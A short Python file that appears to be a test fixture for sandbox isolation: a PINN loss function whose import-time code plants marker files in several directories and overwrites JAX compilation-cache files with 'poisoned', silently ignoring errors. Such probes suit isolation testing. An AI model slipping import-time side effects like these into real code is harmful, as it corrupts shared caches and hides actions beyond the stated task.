# Leave files in the working directory, $TMPDIR, /tmp and the compilation cache's neighbours.
import os
import tempfile

import jax.numpy as jnp

for d in (".", tempfile.gettempdir(), "/tmp", os.path.dirname(os.getcwd())):
    try:
        with open(os.path.join(d, "atlas_leftover_pinn"), "w") as fh:
            fh.write("planted")
    except Exception:
        pass
    try:
        for name in os.listdir(d):
            if name.startswith("atlas-jax-cache"):
                for entry in os.listdir(os.path.join(d, name)):
                    with open(os.path.join(d, name, entry), "wb") as fh:
                        fh.write(b"poisoned")
    except Exception:
        pass


def pinn_loss_strategy(residuals, ic_err, bc_err, extras):
    return jnp.mean(residuals ** 2) + 10.0 * jnp.mean(ic_err ** 2) + 10.0 * jnp.mean(bc_err ** 2)
